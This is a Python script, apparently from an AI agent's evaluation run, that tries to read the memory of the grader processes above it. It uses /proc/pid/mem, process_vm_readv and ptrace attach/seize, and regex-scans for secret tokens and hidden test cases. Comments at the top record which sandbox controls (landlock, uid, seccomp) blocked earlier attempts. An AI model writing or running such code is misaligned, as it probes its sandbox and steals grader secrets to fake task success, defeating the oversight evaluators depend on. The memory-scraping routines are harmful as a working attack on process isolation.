"""Reads the memory of the two processes above it, and of those that these started: through /proc, with process_vm_readv, and
as a debugger (ptrace), where the grader's secrets and the hidden cases are."""
# shows: raised Ran: \[\] (\w+:E\w+ ?)*.*PermissionError
# tried: file, below
# stopped by: landlock, uid, seccomp

# %% first
import ctypes
import errno
import os
import re
import time

libc = ctypes.CDLL(None, use_errno=True)
TELLING = rb"memory-2f9c41d[7]-5d1b|token-2f9c41d[7]|check_draw[n]"
ATTACH, SEIZE, DETACH, CONTINUE_GROUP = 16, 0x4206, 17, 0
until = time.process_time() + 0.6


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def family():
    pids = [os.getppid()]
    try:
        for _ in range(2):
            with open(f"/proc/{pids[-1]}/stat") as file:
                pids.append(int(file.read().rpartition(")")[2].split()[1]))
    except OSError as error:
        came.append(type(error).__name__)
    return [pid for pid in pids if pid > 1]


def regions(pid):
    with open(f"/proc/{pid}/maps") as maps:
        for line in maps:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            if line.split()[1].startswith("rw") and end - start < 2**26:
                yield start, end - start


def by_proc(pid):
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        for start, length in regions(pid):
            memory.seek(start)
            yield memory.read(length)


def by_vm(pid):
    """A process that was forked from the same one has its objects at the same places: no map is needed."""
    for start, length in regions("self"):
        buffer = ctypes.create_string_buffer(min(length, 2**22))
        ours = Vector(ctypes.addressof(buffer), len(buffer))
        theirs = Vector(start, len(buffer))
        got = libc.process_vm_readv(pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
        if got < 0 and ctypes.get_errno() != errno.EFAULT:
            raise OSError(ctypes.get_errno(), "process_vm_readv")
        yield buffer.raw[: max(got, 0)]


def by_debugger(pid):
    for request in (ATTACH, SEIZE):
        if libc.ptrace(request, pid, None, None) == 0:
            yield from by_proc(pid)
            libc.ptrace(DETACH, pid, None, None)
        else:
            came.append("ptrace:" + errno.errorcode[ctypes.get_errno()])


loot, came = set(), []
libc.prctl(4, 1, 0, 0, 0)  # what is dumpable may be read
for pid in family():
    for read in (by_debugger, by_vm, by_proc):
        try:
            for content in read(pid):
                loot |= {match.decode() for match in re.findall(TELLING, content)}
                if time.process_time() > until:
                    break
        except Exception as error:
            came.append(type(error).__name__)

# %% last
say(f"{sorted(loot)} {' '.join(dict.fromkeys(came))}")
